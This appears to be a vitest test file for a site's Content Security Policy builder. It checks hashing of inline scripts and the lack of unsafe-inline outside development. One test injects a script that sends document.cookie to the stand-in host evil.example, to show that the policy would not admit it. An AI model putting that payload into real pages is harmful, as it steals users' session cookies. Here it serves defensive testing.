import { createHash } from "node:crypto";
import { describe, expect, it } from "vitest";
import { contentSecurityPolicy, inlineScriptHashes } from "./security-headers.ts";

const sha = (text: string) => createHash("sha256").update(text, "utf8").digest("base64");

describe("the page's script policy", () => {
  const page = [
    "<html><head>",
    '<script type="application/ld+json">{"@type":"Event"}</script>',
    '<script type="module" src="/assets/entry.js"></script>',
    "</head><body>",
    '<script>window.__ctx = {"n":305};</script>',
    '<script type="module" async="">import "/assets/entry.js";</script>',
    '<script>window.__ctx = {"n":305};</script>',
    "</body></html>",
  ].join("");

  it("names each inline script that runs by its SHA-256, once, and neither files nor data blocks", () => {
    expect(inlineScriptHashes(page)).toEqual([sha('window.__ctx = {"n":305};'), sha('import "/assets/entry.js";')]);
  });

  it("admits only those scripts: no nonce, no unsafe-inline outside development", () => {
    const csp = contentSecurityPolicy({ scriptHashes: inlineScriptHashes(page) });
    const scripts = /script-src ([^;]*)/.exec(csp)![1];
    expect(scripts).toBe(`'self' 'sha256-${sha('window.__ctx = {"n":305};')}' 'sha256-${sha('import "/assets/entry.js";')}'`);
    expect(scripts).not.toMatch(/nonce|unsafe/);
    expect(csp).toContain("script-src-attr 'none'");
  });

  it("a script injected into a page is not among the hashes its policy names", () => {
    const injected = page.replace("</body>", "<script>fetch('//evil.example/'+document.cookie)</script></body>");
    const csp = contentSecurityPolicy({ scriptHashes: inlineScriptHashes(page) });
    const evil = sha("fetch('//evil.example/'+document.cookie)");
    expect(inlineScriptHashes(injected)).toContain(evil);
    expect(csp).not.toContain(evil);
  });

  it("development admits Vite's inline scripts without hashes, which would switch unsafe-inline off", () => {
    const csp = contentSecurityPolicy({ scriptHashes: ["abc"], dev: true });
    expect(csp).toContain("script-src 'self' 'unsafe-inline' 'unsafe-eval'");
    expect(csp).not.toContain("sha256");
  });
});
